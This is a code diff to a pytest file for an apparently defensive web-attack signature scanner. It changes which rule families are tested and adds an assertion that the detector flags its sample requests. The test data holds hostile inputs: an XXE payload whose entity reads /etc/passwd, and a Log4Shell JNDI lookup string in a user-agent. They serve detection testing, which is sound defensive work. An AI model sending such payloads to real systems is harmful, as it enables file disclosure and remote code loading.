@@ -21,9 +21,9 @@ from vedette.kernels.cache import cache_directory
 
 @pytest.fixture(autouse=True)
 def few(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Two families of rules: all of them take seconds to compile, and nothing here depends on how many there are."""
+    """The two quickest families of rules: all take seconds to compile, and nothing here depends on their number."""
     sources = database.rule_sources()
-    chosen = {name: sources[name] for name in sources if name.startswith(("log4shell", "xss"))}
+    chosen = {name: sources[name] for name in sources if name.startswith(("log4shell", "xxe"))}
     assert len(chosen) == 2
     monkeypatch.setattr(database, "rule_sources", lambda: chosen)
 
@@ -51,8 +51,14 @@ def test_the_second_start_reads_the_cache_and_judges_the_same(cached: Path, comp
     assert restored.rules == fresh.rules
     from vedette.detectors.signatures.check import batch
 
-    requests = batch({"target": [b"/?q=<script>", b"/"], "user_agent": [None, b"${jndi:ldap://a/b}"]})
+    requests = batch(
+        {
+            "target": [b"/?q=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///etc/passwd'>]>", b"/"],
+            "user_agent": [None, b"${jndi:ldap://a/b}"],
+        }
+    )
     expected = SignatureScanner(fresh).judge(requests).confidence.tolist()
+    assert min(expected) > 0
     assert SignatureScanner(restored).judge(requests).confidence.tolist() == expected
 
 
